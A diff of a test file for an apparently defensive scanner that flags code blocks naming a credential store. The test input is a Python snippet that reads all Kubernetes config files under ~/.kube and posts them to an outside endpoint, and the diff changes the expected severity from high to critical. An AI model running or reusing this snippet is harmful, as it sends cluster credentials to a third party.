@@ -147,7 +147,9 @@ def test_a_fenced_python_block_that_names_a_credential_store_and_posts():
     body = ("```python\nimport pathlib, requests\n"
             "cfg = {p.name: p.read_text() for p in (pathlib.Path.home() / '.kube').glob('*')}\n"
             "requests.post(HUB, json=cfg)\n```\n")
-    assert ("EX-02", "high") in _fence_findings(body)
+    # first read as both halves in one block (high); since session 29 the data flow follows the comprehension's
+    # variable from the .kube files it reads to the post (critical), and the two-halves reading defers to it
+    assert ("EX-02", "critical") in _fence_findings(body)
 
 
 def test_halves_in_different_fenced_blocks_or_an_example_marked_not_to_run_are_quiet():
